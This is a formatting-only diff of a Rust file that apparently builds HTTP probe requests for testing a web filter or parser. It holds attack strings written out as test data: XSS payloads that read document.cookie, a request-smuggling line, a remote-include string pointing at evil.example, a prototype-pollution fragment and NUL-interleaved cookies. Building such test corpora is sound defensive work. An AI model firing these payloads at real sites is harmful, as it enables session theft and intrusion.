@@ -78,7 +78,12 @@ fn probe_request(kind: &str, name: String, values: &[Vec<u8>]) -> (String, Vec<u
     let q: Vec<String> = values
         .iter()
         .enumerate()
-        .map(|(i, v)| format!("{kind}{i:02}={}", v.iter().map(|b| format!("%{b:02x}")).collect::<String>()))
+        .map(|(i, v)| {
+            format!(
+                "{kind}{i:02}={}",
+                v.iter().map(|b| format!("%{b:02x}")).collect::<String>()
+            )
+        })
         .collect();
     (
         name,
@@ -211,7 +216,12 @@ fn nul_interleave(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, 
             );
             push(
                 format!("nul-interleave/cookie/{base}"),
-                request("GET", "/", &[("Cookie", format!("session=abc; pref={e}"))], b""),
+                request(
+                    "GET",
+                    "/",
+                    &[("Cookie", format!("session=abc; pref={e}"))],
+                    b"",
+                ),
             );
             let j = json_string(&String::from_utf8_lossy(&v));
             push(
@@ -229,7 +239,10 @@ const XSS: &[(&str, &str)] = &[
     ("iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
     ("body", "<body onload=alert(document.domain)>"),
     ("anchor", "<a href=\"javascript:alert(1)\">x</a>"),
-    ("style", "<div style=\"background:url(javascript:alert(1))\">"),
+    (
+        "style",
+        "<div style=\"background:url(javascript:alert(1))\">",
+    ),
     ("js-uri", "javascript:alert(document.cookie)"),
 ];
 
@@ -302,7 +315,11 @@ fn json_excluded(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &
 fn xml_body(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
     let extra: &[(&str, &str, &str)] = &[
         ("attack", "smuggle", "GET /admin HTTP/1.1"),
-        ("attack", "include", "include(http://evil.example/x)=http://a"),
+        (
+            "attack",
+            "include",
+            "include(http://evil.example/x)=http://a",
+        ),
         ("attack", "django", "__proto__contains\":1"),
     ];
     for (kind, name, value) in values.iter().chain(extra) {
@@ -314,10 +331,7 @@ fn xml_body(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]
                 format!("<?xml version=\"1.0\"?><r><!-- {comment} --><q>ok</q></r>"),
             ),
             ("pi", format!("<r><?app {pi}?><q>ok</q></r>")),
-            (
-                "comment-before-root",
-                format!("<!--{comment}--><r>ok</r>"),
-            ),
+            ("comment-before-root", format!("<!--{comment}--><r>ok</r>")),
         ] {
             push(
                 format!("xml-body/{shape}/{kind}/{name}"),
@@ -435,7 +449,13 @@ fn multipart_binary(push: &mut dyn FnMut(String, Vec<u8>)) {
                 "lf-boundary" => data.extend_from_slice(format!("\n--{BOUNDARY}x\n").as_bytes()),
                 "unix-text" => {
                     data = (0..size)
-                        .map(|i| if i % 17 == 16 { b'\n' } else { b'a' + (i % 26) as u8 })
+                        .map(|i| {
+                            if i % 17 == 16 {
+                                b'\n'
+                            } else {
+                                b'a' + (i % 26) as u8
+                            }
+                        })
                         .collect()
                 }
                 _ => {}
@@ -478,10 +498,9 @@ fn multipart_filenames(push: &mut dyn FnMut(String, Vec<u8>)) {
     ];
     for (name, fname) in names {
         for star in ["plain", "with-star"] {
-            let mut body = format!(
-                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\""
-            )
-            .into_bytes();
+            let mut body =
+                format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"")
+                    .into_bytes();
             body.extend_from_slice(fname);
             body.push(b'"');
             if star == "with-star" {
